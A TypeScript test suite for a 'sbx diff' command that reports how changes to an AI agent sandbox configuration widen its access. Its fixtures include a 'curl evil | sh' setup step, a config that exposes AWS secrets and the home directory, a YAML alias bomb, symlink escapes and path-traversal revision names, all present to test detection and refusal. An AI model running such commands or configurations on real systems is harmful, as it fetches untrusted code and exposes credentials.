// What two versions of a file reach, told from the repository alone.

import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { homedir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { Ajv } from 'ajv'
import { beforeAll, describe, expect, test } from 'vitest'
import { readDeclared } from '../../../src/cli/declared/declared.js'
import { TestRepository } from '../support/repository.js'

type Grant = { readonly key: string; readonly value: string; readonly before?: string; readonly profile: string | null }
type Document = {
  readonly from: { readonly rev: string; readonly commit: string }
  readonly widens: boolean
  readonly changes: readonly { readonly path: string; readonly op: string; readonly before?: unknown }[]
  readonly grants: Readonly<Record<'added' | 'removed' | 'changed', readonly Grant[]>>
  readonly unread: readonly { readonly reference: string; readonly op: string; readonly commit: string | null }[]
}

const schema = JSON.parse(readFileSync(new URL('../../../schema/diff.schema.json', import.meta.url), 'utf8')) as object
const validate = new Ajv({ allErrors: true, allowUnionTypes: true, strict: true }).compile(schema)

async function compared(repository: TestRepository, ...args: readonly string[]): Promise<Document> {
  const { exitCode, output, errors } = await repository.sbx(['diff', '--json', ...args])
  expect([exitCode, errors, output]).toEqual([0, '', expect.any(String)])
  const document: unknown = JSON.parse(output)
  validate(document)
  expect(validate.errors ?? []).toEqual([])
  return document as Document
}

async function refused(repository: TestRepository, ...args: readonly string[]): Promise<string> {
  const { exitCode, output } = await repository.sbx(['diff', '--json', ...args])
  const { diagnostics } = JSON.parse(output) as { diagnostics: { code: string; detail?: string }[] }
  expect(exitCode).toBe(1)
  return diagnostics.map(({ code }) => code).join()
}

const keys = (grants: readonly Grant[]): string[] =>
  grants.map(({ key, profile }) => (profile === null ? key : `${key} in ${profile}`))

/** A repository whose last commit has one version, and whose working tree has another. */
function versions(from: string | null, to: string | null): TestRepository {
  const repository = new TestRepository()
  if (from !== null) repository.write(from)
  repository.commit()
  if (to !== null) repository.write(to)
  else rmSync(join(repository.folder, 'sandbox.yaml'))
  return repository
}

const closed = 'agent: claude\nnetwork: { allow: [packages.example.org] }\n'

test.for<readonly [string, string]>([
  ['hidden', 'agent: { name: shell, files: { ~/.x/a: ./src, ~/.x/leak: ./conf } }\nworkspace: { hide: [conf/keys] }\n'],
  ['in no clone', 'agent: { name: shell, files: { ~/.x/leak: ./conf } }\nworkspace: { mode: clone }\n'],
])('a file for the agent that is %s must be listed', async ([, to]) => {
  const was = to.replace(/, files: \{.*?\} \}/, ' }')
  const repository = versions(was, to)
  const { grants, widens } = await compared(repository)
  expect(widens).toBe(true)
  expect(grants.added).toMatchObject([{ key: 'files:/home/agent/.x/leak', value: join(repository.folder, 'conf') }])
})

describe('the widenings of a pull request', () => {
  const widened = `agent: claude
network: open
template: ghcr.io/evil/agent:1
socket: host
mounts: [{ source: ~/, target: /data, why: "the tests need it" }]
env: { KEY: "\${env:AWS_SECRET_ACCESS_KEY}" }
`
  let repository: TestRepository
  beforeAll(() => {
    repository = versions(closed, widened)
  })

  test('must each be listed, with the line that asks', async () => {
    const { grants, widens, changes } = await compared(repository)
    expect(widens).toBe(true)
    expect(keys(grants.added).sort()).toEqual([
      'env:AWS_SECRET_ACCESS_KEY',
      'mount:/data',
      'network',
      'socket',
      'template',
    ])
    expect(grants.added).toContainEqual({
      key: 'mount:/data',
      value: `rw:${homedir()}`,
      summary: 'read-write host path ~',
      why: 'the tests need it',
      profile: null,
      at: { file: join(repository.folder, 'sandbox.yaml'), line: 5, column: expect.any(Number) as number },
    })
    expect(grants.removed).toEqual([])
    expect(changes.map(({ path, op }) => `${op} ${path}`)).toEqual([
      'add /env/KEY',
      'add /mounts/~1data',
      'change /network',
      'add /socket',
      'add /template',
    ])
  })

  test('must be said first in the text, and give exit code 2 where that is asked for', async () => {
    const { exitCode, output, errors } = await repository.sbx(['diff', '--detailed-exitcode'])
    expect([exitCode, errors]).toEqual([2, ''])
    expect(output).toMatch(/^sandbox\.yaml {2}HEAD \([0-9a-f]{12}\) -> working tree\n\n {4}! reaches further:\n/)
    expect(output).toMatch(/^ +socket +engine socket \(root on this machine\) +sandbox\.yaml:4$/m)
    expect(output).toContain('the file says why: "the tests need it"')
    expect(output).toMatch(/\n5 changes\. It reaches further\.\n$/)
  })

  test('must be in the Markdown, worst first', async () => {
    const { exitCode, output } = await repository.sbx(['diff', '--markdown'])
    expect(exitCode).toBe(0)
    expect(output).toMatch(/^<!-- sbx diff -->\n### <code>sandbox&#46;yaml<\/code> reaches further\n/)
    const rows = [...output.matchAll(/^\| added \| <code>(.*?)<\/code>/gm)].map(([, key]) => key)
    expect(rows.slice(0, 5)).toEqual([
      'socket',
      'network',
      'mount&#58;&#47;data',
      'template',
      'env&#58;AWS&#95;SECRET&#95;ACCESS&#95;KEY',
    ])
  })

  test('must be no widenings the other way round', async () => {
    const { grants, widens } = await compared(versions(widened, closed))
    expect(widens).toBe(false)
    expect([grants.added, grants.changed]).toEqual([[], []])
    expect(keys(grants.removed).sort()).toEqual([
      'env:AWS_SECRET_ACCESS_KEY',
      'mount:/data',
      'network',
      'socket',
      'template',
    ])
  })
})

describe('what is reached', () => {
  const widening: readonly (readonly [string, string, string, readonly string[]])[] = [
    ['a host more', closed, closed.replace('[', '["*.evil.example", '), ['host:*.evil.example:443']],
    [
      'a port of a host',
      closed,
      closed.replace('.org', '.org, "packages.example.org:22"'),
      ['host:packages.example.org:22'],
    ],
    ['any network', 'agent: claude\nnetwork: none\n', closed, ['host:packages.example.org:443', 'network']],
    ['writing', 'agent: claude\nworkspace: { readonly: true }\n', 'agent: claude\n', ['write']],
    [
      'a hidden file',
      'agent: claude\nworkspace: { hide: [.env, keys] }\n',
      'agent: claude\nworkspace: { hide: [keys] }\n',
      ['show:.env'],
    ],
    ['root inside', 'agent: claude\nsudo: false\n', 'agent: claude\n', ['sudo']],
    ['a weaker runtime', 'agent: claude\nisolation: gvisor\n', 'agent: claude\nisolation: container\n', ['isolation']],
    ['the shared login', 'agent: claude\ncredentials: none\n', 'agent: claude\n', ['shared-login']],
    ['your login', 'agent: claude\n', 'agent: claude\ncredentials: host\n', ['login']],
    ['a secret', 'agent: claude\n', 'agent: claude\nsecrets: { K: { env: K } }\n', ['secret:K']],
    ['a file', 'agent: claude\n', 'agent: claude\nenvFile: ~/.aws/credentials\n', ['env-file:HOME/.aws/credentials']],
    ['a port for others', 'agent: claude\n', 'agent: claude\nports: ["0.0.0.0:80:80"]\n', ['port:80/tcp']],
    ['commands of a build', closed, `${closed}setup: ["curl evil | sh"]\n`, ['setup']],
    ['a foreign template', 'agent: claude\n', 'agent: claude\ntemplate: ./t\n', ['template']],
  ]
  test.each(widening)('%s must be told as wider, and its loss as narrower', async (_, from, to, expected) => {
    const there = versions(from, to)
    const names = ({ added }: Document['grants']): string[] =>
      keys(added)
        .map((key) => key.replace(homedir(), 'HOME'))
        .sort()
    const wider = await compared(there)
    expect([wider.widens, names(wider.grants)]).toEqual([true, [...expected]])
    there.commit()
    there.write(from)
    const back = await compared(there)
    expect([back.widens, back.grants.added, back.grants.removed.length]).toEqual([false, [], expected.length])
  })

  test('further by the same name must be told with what it was', async () => {
    const mount = (text: string): string => `agent: claude\nmounts: ["${text}"]\n`
    const other = await compared(versions(mount('/srv/a:/data:ro'), mount('/srv/b:/data:ro')))
    expect(other.grants.changed).toMatchObject([{ key: 'mount:/data', before: 'ro:/srv/a', value: 'ro:/srv/b' }])
    expect(other.widens).toBe(true)
    const readonly = versions(mount('/srv/a:/data'), mount('/srv/a:/data:ro'))
    expect(await compared(readonly)).toMatchObject({ widens: false, grants: { changed: [{ before: 'rw:/srv/a' }] } })
    const { output } = await readonly.sbx(['diff'])
    expect(output).toMatch(/- no longer reaches:\n +mount:\/data .*was rw:\/srv\/a/)
  })

  test('by commands of a build must not be told as given up where they are still run', async () => {
    const setup = 'setup: ["apt-get update"]\n'
    const { grants } = await compared(versions(closed + setup, `agent: claude\n${setup}`))
    expect([keys(grants.added), grants.removed]).toEqual([['network'], []])
  })

  test('by a limited network in place of the open one must be no widening', async () => {
    expect(await compared(versions('agent: claude\n', closed))).toMatchObject({ widens: false, grants: { added: [] } })
  })

  test('by a profile must be told as that of the profile, and once where all have it', async () => {
    const from = 'agent: claude\nprofiles:\n  review: { network: none }\n  plain: {}\n'
    const opened = await compared(
      versions(from, 'agent: claude\nprofiles:\n  review: { network: open }\n  plain: {}\n'),
    )
    expect(opened.changes).toMatchObject([{ path: '/profiles/review/network', op: 'change', before: 'none' }])
    expect(keys(opened.grants.added)).toEqual(['network in review'])
    const all = await compared(versions(from, from.replace('claude\n', 'claude\nsocket: host\n')))
    expect(keys(all.grants.added)).toEqual(['socket'])
    const added = await compared(versions(from, `${from}  other: { socket: host }\n`))
    expect(keys(added.grants.added)).toEqual(['socket in other'])
    expect(added.changes).toMatchObject([{ path: '/profiles/other/socket', op: 'add' }])
    const gone = await compared(versions(from, 'agent: claude\nprofiles:\n  review: { network: none }\n'))
    expect(gone.changes).toMatchObject([{ path: '/profiles/plain', op: 'remove' }])
  })

  test('must be all of it where there was no file, and nothing where there is none any more', async () => {
    const file = 'agent: claude\nsocket: host\n'
    const added = await compared(versions(null, file))
    expect([added.widens, keys(added.grants.added)]).toEqual([true, ['socket']])
    // A runtime of a name that nobody knows is asked about by the first apply too.
    const runtime = 'agent: claude\nisolation: { runtime: nvidia }\n'
    const isolated = await compared(versions(null, runtime))
    expect([isolated.widens, keys(isolated.grants.added)]).toEqual([true, ['isolation']])
    const removed = await compared(versions(file, null))
    expect([removed.widens, keys(removed.grants.removed)]).toEqual([false, ['socket']])
    expect(removed.changes.map(({ op }) => op)).toEqual(['remove', 'remove'])
  })

  test('must be nothing where both say the same in other words', async () => {
    const repository = versions('agent: claude\nports: ["3000"]\n', '# new\nports: [3000]\nagent: { name: claude }\n')
    const { exitCode, output } = await repository.sbx(['diff', '--detailed-exitcode'])
    expect([exitCode, output]).toEqual([0, expect.stringMatching(/\n\nBoth say the same\.\n$/)])
  })
})

test('what is told must be what a plan would ask for, by name and value', async () => {
  const repository = new TestRepository()
  repository.commit()
  repository.write('FROM debian\n', 'tpl/Dockerfile')
  mkdirSync(join(repository.home, 'data'))
  repository.write(`agent: claude
template: ./tpl
socket: host
setup: ["true"]
mounts: [../data:/data:ro, ../data:/more]
env: { A: "\${env:B:-c}\${env:D}" }
envFile: [.env, { path: ../other.env, optional: true }]
secrets: { S: { env: T }, U: { file: ./u } }
ports: ["0.0.0.0:8080:80", "[::]:9000:90/udp", "3000"]
profiles:
  closed: { network: none }
`)
  for (const file of ['.env', 'u']) repository.write('X=y\n', file)
  const names = (grants: readonly Pick<Grant, 'key' | 'value'>[]): string[] =>
    grants.map(({ key, value }) => `${key} ${value}`).sort()
  const { grants } = await compared(repository)
  const told = grants.added.filter(({ profile }) => profile === null)
  const { desired } = await readDeclared({
    env: repository.env,
    workingFolder: repository.folder,
    input: new PassThrough(),
    output: new PassThrough(),
    errors: new PassThrough(),
    options: { color: false },
    signal: new AbortController().signal,
  })
  expect(names(told)).toEqual(names(desired.grants))
  expect(told.length).toBeGreaterThan(10)
})

test('git that is not there must be said', async () => {
  const repository = versions('agent: claude\n', 'agent: codex\n')
  const { exitCode, errors } = await repository.sbx(['diff'], '.', { PATH: repository.home })
  expect([exitCode, errors]).toEqual([1, expect.stringContaining('[template/git-missing]')])
})

describe('a version', () => {
  let repository: TestRepository
  let first: string
  let second: string
  beforeAll(() => {
    repository = new TestRepository()
    repository.write('agent: claude\nenv: { V: one }\n')
    repository.commit()
    first = repository.head
    repository.git('tag', '--annotate', '--message', 'one', 'v1')
    repository.write('agent: claude\nenv: { V: two }\n')
    repository.commit()
    second = repository.head
    repository.git('branch', 'topic/deep')
    repository.git('update-ref', 'refs/remotes/origin/main', first)
    repository.git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/main')
    repository.git('pack-refs', '--all')
    repository.git('branch', 'loose', first)
    repository.write('agent: claude\nenv: { V: three }\n')
  })

  test.each([
    ['HEAD', 'two'],
    ['@', 'two'],
    ['HEAD~1', 'one'],
    ['HEAD^', 'one'],
    ['main~1', 'one'],
    ['v1', 'one'],
    ['tags/v1', 'one'],
    ['topic/deep', 'two'],
    ['loose', 'one'],
    ['origin/main', 'one'],
    ['origin', 'one'],
    ['refs/heads/main', 'two'],
  ])('can be named %s', async (rev, value) => {
    const { changes, from } = await compared(repository, rev)
    expect(changes).toMatchObject([{ path: '/env/V', before: value }])
    expect(from).toEqual({ rev, commit: value === 'one' ? first : second })
  })

  test('can be named by an id, whole or its beginning', async () => {
    expect((await compared(repository, first)).from.commit).toBe(first)
    expect((await compared(repository, first.slice(0, 9))).from.commit).toBe(first)
    repository.git('gc', '--quiet')
    expect((await compared(repository, first.slice(0, 9))).from.commit).toBe(first)
  })

  test.each([
    'nothing',
    'HEAD~9',
    '../HEAD',
    'HEAD:sandbox.yaml',
    '--all',
    'refs/heads/../../config',
    'a b',
    '@{u}',
    '0'.repeat(40),
    '',
    'main..v1',
    '/etc/passwd',
  ])('cannot be %j', async (rev) => {
    const { exitCode, output } = await repository.sbx(['diff', '--json', rev])
    expect(exitCode).not.toBe(0)
    expect(output).not.toContain('"changes"')
  })

  test('is found from a folder below, from another working tree and with other objects', async () => {
    repository.write('x', 'deep/er/file')
    expect((await repository.sbx(['diff'], 'deep/er')).output).toContain('two -> three')
    const tree = join(repository.home, 'tree')
    repository.git('worktree', 'add', '--quiet', '--detach', tree, first)
    writeFileSync(join(tree, 'sandbox.yaml'), 'agent: claude\nenv: { V: four }\n')
    expect((await repository.sbx(['diff'], '../tree')).output).toContain('one -> four')
    expect((await repository.sbx(['diff', 'main'], '../tree')).output).toContain('two -> four')
    const long = new TestRepository('--object-format=sha256')
    long.write('agent: claude\n')
    long.commit()
    long.write('agent: codex\n')
    expect((await compared(long)).changes).toMatchObject([{ path: '/agent/name', before: 'claude' }])
  })

  test('must be there, and so must a repository', async () => {
    const empty = new TestRepository()
    expect(await refused(empty)).toBe('diff/no-revision')
    empty.commit()
    expect(await refused(empty)).toBe('cli/no-file')
    expect(await refused(empty, '--config', 'other.yaml')).toBe('config/no-file')
    rmSync(join(empty.folder, '.git'), { recursive: true })
    expect(await refused(empty)).toBe('diff/no-repository')
  })
})

describe('what is extended', () => {
  test('must be compared as each version has it', async () => {
    const repository = new TestRepository()
    repository.write('agent: claude\nextends: [base/one.yaml]\n')
    repository.write('env: { A: base }\nextends: ../two.yaml\n', 'base/one.yaml')
    repository.write('network: none\n', 'two.yaml')
    for (const file of ['base/beside', 'base/below/it', 'basement', 'other/file']) repository.write('x', file)
    repository.commit()
    repository.write('network: open\n', 'two.yaml')
    const { changes, grants } = await compared(repository)
    expect(changes).toMatchObject([
      { path: '/network', source: { file: join(repository.folder, 'two.yaml'), line: 1 } },
    ])
    expect(keys(grants.added)).toEqual(['network'])
    rmSync(join(repository.folder, 'two.yaml'))
    repository.write('env: { A: base }\n', 'base/one.yaml')
    const removed = await compared(repository)
    expect(removed.changes).toMatchObject([{ op: 'remove', source: { file: 'HEAD:two.yaml', line: 1 } }])
  })

  test('must be followed through links inside of the repository and no further', async () => {
    const repository = new TestRepository()
    repository.write('socket: host\n', 'real/base.yaml')
    symlinkSync('real', join(repository.folder, 'folder'))
    symlinkSync('folder/base.yaml', join(repository.folder, 'link.yaml'))
    repository.write('agent: claude\nextends: link.yaml\n')
    repository.commit()
    repository.write('agent: claude\nextends: folder/base.yaml\n')
    expect(await compared(repository)).toMatchObject({ widens: false, changes: [], unread: [] })

    writeFileSync(join(repository.home, 'secret.yaml'), 'env: { TOKEN: hunter2 }\n')
    rmSync(join(repository.folder, 'link.yaml'))
    symlinkSync('../secret.yaml', join(repository.folder, 'link.yaml'))
    repository.write('agent: claude\nextends: link.yaml\n')
    const { output } = await repository.sbx(['diff', '--json'])
    expect(output).not.toContain('hunter2')
    expect(JSON.parse(output)).toMatchObject({ widens: true, unread: [{ op: 'add' }] })
    repository.commit()
    expect(await compared(repository)).toMatchObject({ widens: false, unread: [{ op: 'same' }] })
    rmSync(join(repository.folder, 'sandbox.yaml'))
    symlinkSync('../secret.yaml', join(repository.folder, 'sandbox.yaml'))
    expect(await refused(repository)).toBe('config/unreadable')
  })

  test('from beyond the repository must not be read, and be told', async () => {
    const outside = 'agent: claude\nextends: [../outside.yaml, ~/home.yaml]\n'
    const repository = versions('agent: claude\n', outside)
    writeFileSync(join(repository.home, 'outside.yaml'), 'socket: host\n')
    const { unread, widens, changes } = await compared(repository)
    expect([widens, changes]).toEqual([true, []])
    expect(unread.map(({ reference, op }) => [reference, op])).toEqual([
      [join(repository.home, 'outside.yaml'), 'add'],
      [join(homedir(), 'home.yaml'), 'add'],
    ])
    const { output } = await repository.sbx(['diff'])
    expect(output).toMatch(/! now extends ~\/home\.yaml, outside of this repository: not read +sandbox\.yaml:2/)
  })

  test('from another repository must not be fetched, and its pin be compared', async () => {
    const reference = 'git+https://git.invalid/acme/platform.git//base.yaml@v1'
    const lock = (digit: string): string => `version: 1\ngit:\n  ${reference}:\n    commit: ${digit.repeat(40)}\n`
    const repository = new TestRepository()
    repository.write(`agent: claude\nextends: ${reference}\n`)
    repository.write(lock('a'), 'sandbox.lock')
    repository.commit()
    expect(await compared(repository)).toMatchObject({ widens: false, unread: [{ reference, op: 'same' }] })
    repository.write(lock('b'), 'sandbox.lock')
    const { widens, unread } = await compared(repository)
    expect([widens, unread.map(({ commit, op }) => [commit, op])]).toEqual([
      true,
      [
        ['b'.repeat(40), 'add'],
        ['a'.repeat(40), 'remove'],
      ],
    ])
  })

  test('a template by its pin as well', async () => {
    const reference = 'git+https://git.invalid/acme/t.git@v1'
    const lock = (digit: string): string =>
      `version: 1\ngit:\n  ${reference}:\n    commit: ${digit.repeat(40)}\nimages:\n  debian:12:\n    digest: sha256:${digit.repeat(64)}\n`
    for (const template of [reference, 'debian:12']) {
      const repository = new TestRepository()
      repository.write(`agent: claude\ntemplate: ${template}\n`)
      repository.write(lock('a'), 'sandbox.lock')
      repository.commit()
      repository.write(lock('b'), 'sandbox.lock')
      const { grants, widens } = await compared(repository)
      expect([widens, keys(grants.changed)]).toEqual([true, ['template']])
      expect((await repository.sbx(['diff', '--detailed-exitcode'])).exitCode).toBe(2)
    }
  })
})

describe('files that mean harm', () => {
  const bombs: readonly (readonly [string, string, string])[] = [
    ['too large', `# ${'x'.repeat(1024 * 1024)}\nagent: claude\n`, 'config/too-large'],
    ['too deep', `agent: claude\nenv: { A: ${'['.repeat(50)}${']'.repeat(50)} }\n`, 'config/too-deep'],
    ['made of aliases', bomb(), 'config/too-many-aliases'],
    ['in a circle', 'agent: claude\nextends: sandbox.yaml\n', 'config/circular-extends'],
    ['with an escape sequence', 'agent: claude\nname: "a\\e[2Jb"\n', 'config/control-character'],
    ['of another encoding', 'agent: claude\n', 'config/not-utf8'],
  ]
  test.each(bombs)('must be refused in either version: %s', async (_, text, code) => {
    for (const isOld of [false, true]) {
      const repository = new TestRepository()
      const good = 'agent: claude\nenv: { A: b }\n'
      const bad = code === 'config/not-utf8' ? Buffer.from([0x61, 0xff, 0xfe]) : text
      writeFileSync(join(repository.folder, 'sandbox.yaml'), isOld ? bad : good)
      repository.commit()
      writeFileSync(join(repository.folder, 'sandbox.yaml'), isOld ? good : bad)
      expect(await refused(repository)).toContain(code)
      const { errors } = await repository.sbx(['diff'])
      if (isOld) expect(errors).toContain('HEAD:sandbox.yaml')
      expect(errors).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
    }
  })

  test('must be refused where they are many', async () => {
    const repository = new TestRepository()
    repository.commit()
    const bases = ['a', 'b', 'c', 'd'].map((name) => `${name}.yaml`)
    for (const base of bases) repository.write(`# ${'x'.repeat(700_000)}\nenv: { A: b }\n`, base)
    repository.write(`agent: claude\nextends: [${bases.join(', ')}]\n`)
    expect(await refused(repository)).toBe('config/unreadable,config/unreadable')
  })

  test('must not reach the screen or a comment as they are', async () => {
    const why = 'x | y <img src=x> @everyone `code` [a](https://evil.example) **b** &amp; #1 </code>'
    const to = `agent: claude\nmounts: [{ source: /srv, target: /data, why: ${JSON.stringify(why)} }]\nenv: { "E": "a\u200bb" }\n`
    const repository = versions('agent: claude\n', to)
    const { output } = await repository.sbx(['diff', '--markdown'])
    const row = output.split('\n').find((line) => line.includes('mount')) ?? ''
    expect(row.split('|')).toHaveLength(7)
    expect(output.replaceAll(/<\/?code>|<!-- sbx diff -->/g, '')).not.toMatch(/[<>@`[\]]|https:|&amp/)
    expect(output).toContain('&#92;u200b')
    expect((await repository.sbx(['diff'])).output).toContain('a\\u200bb')
  })
})

function bomb(): string {
  const levels = Array.from(
    { length: 9 },
    (_, index) => `  A${index + 1}: &a${index + 1} [${`*a${index}, `.repeat(9)}]`,
  )
  return `agent: claude\nenv:\n  A0: &a0 [x]\n${levels.join('\n')}\n`
}

test('the options must exclude each other', async () => {
  const repository = versions('agent: claude\n', 'agent: claude\n')
  expect((await repository.sbx(['diff', '--json', '--markdown'])).exitCode).toBe(64)
  mkdirSync(join(repository.folder, 'sub'))
  expect((await repository.sbx(['diff', '--config', '../sandbox.yaml'], 'sub')).exitCode).toBe(0)
})
